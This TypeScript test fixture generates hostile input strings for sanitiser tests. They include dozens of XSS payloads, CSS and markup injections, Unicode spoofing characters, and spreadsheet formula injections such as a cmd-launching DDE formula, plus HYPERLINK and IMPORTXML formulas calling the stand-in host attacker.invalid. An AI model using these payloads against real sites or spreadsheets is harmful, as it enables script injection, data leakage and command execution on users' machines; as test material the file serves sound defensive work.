/** Set by any script that runs although it must not. */
export const MARK = '__ran';
const RUN = `window.${MARK}=1`;
/** Nobody uses this host; the test counts requests to it. */
export const FOREIGN_HOST = 'attacker.invalid';
const HERE = `//${FOREIGN_HOST}/x`;

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${HERE}></script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${HERE} onload=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src=${HERE}>`,
  `<base href=${HERE}>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u0024{${RUN}}`,
  `<%= ${RUN} %>`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}`,
  `<x onclick=${RUN} style=position:fixed;inset:0>`,
];

const STYLES: readonly string[] = [
  '<style>*{display:none}</style>',
  `<style>@import "${HERE}";</style>`,
  `<link rel=stylesheet href=${HERE}>`,
  `<p style="background:url(${HERE})">`,
  `background:url(${HERE})`,
  '</style><style>body{display:none}',
  `x;background-image:url(${HERE});`,
  '<marquee>run</marquee>',
  `<meta http-equiv=refresh content="0;url=https:${HERE}">`,
  `<link rel=prefetch href=${HERE}>`,
];

/** Characters that reverse text, hide it, or overlap its neighbours. */
const UNSEEN: readonly string[] = [
  '\u202egnp.exe odds',
  '\u202a\u202b\u202d left and right',
  '\u2066isolated\u2069 text',
  '\u200b\u200b\u200bnothing\u200b between',
  '\ufefftitle with a mark',
  'Z\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310algo',
  'he\u0301\u0301\u0301\u0301\u0301\u0301\u0301llo',
  '\u{e0041}\u{e0042} tags',
  '\u00adsoft\u00adhyphens\u00ad',
  '\u061c arabic mark',
  'עברית and العربية in one line',
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 family',
  'ﷺ'.repeat(20),
  'W'.repeat(150),
  'i\u0307\u0307 dots',
];

const FORMULAS: readonly string[] = [
  `=cmd|'/c calc'!A0`,
  `=HYPERLINK("https:${HERE}","press")`,
  `+SUM(1+1)*cmd|'/c calc'!A0`,
  '-2+3+cmd',
  '@SUM(A1:A9)',
  `=IMPORTXML("https:${HERE}","//a")`,
  '=1+1',
  '\uff1d1+1',
  '\u22122+3',
  `"=1+1`,
  `'=1+1`,
  ' =1+1',
  '=\u202eA1',
  '+1 (555) 123',
  '-',
  '@here everyone',
];

/** This many different texts: those above in turn, with a number where it does no harm. */
export function hostileTexts(count: number): string[] {
  const all = [...SCRIPTS, ...STYLES, ...UNSEEN, ...FORMULAS];
  return Array.from({ length: count }, (_, i) => `${all[i % all.length]} ${i}`);
}
